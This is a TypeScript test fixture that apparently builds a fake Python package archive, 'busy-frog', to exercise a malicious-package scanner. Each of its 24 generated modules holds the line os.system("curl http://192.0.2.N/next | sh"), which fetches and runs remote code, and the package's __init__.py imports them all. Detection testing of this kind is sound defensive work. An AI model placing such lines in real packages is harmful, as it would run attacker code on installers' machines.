import { buildTar, gzip } from "../../support/tar-builder.ts";

export const BUSY_NAME = "busy-frog-2.0.0.tar.gz";

/** Files with one call each that some rule marks: enough to decide on twenty. Never written as files, never run; addresses of RFC 5737. */
export function buildBusySpecimen(files = 24): Uint8Array<ArrayBuffer> {
	const root = "busy-frog-2.0.0";
	const modules = Array.from({ length: files }, (_, index) => ({
		name: `${root}/busy_frog/part${String(index).padStart(2, "0")}.py`,
		content: `"""Part ${index}."""\nimport os\n\nos.system("curl http://192.0.2.${index + 1}/next | sh")\n`,
	}));
	const imports = modules.map((_, index) => `from . import part${String(index).padStart(2, "0")}\n`).join("");
	return gzip(
		buildTar([
			{ name: `${root}/PKG-INFO`, content: "Metadata-Version: 2.1\nName: busy-frog\nVersion: 2.0.0\n" },
			{
				name: `${root}/setup.py`,
				content: 'from setuptools import setup\n\nsetup(name="busy-frog", version="2.0.0")\n',
			},
			{ name: `${root}/busy_frog/__init__.py`, content: imports },
			...modules,
		]),
	);
}
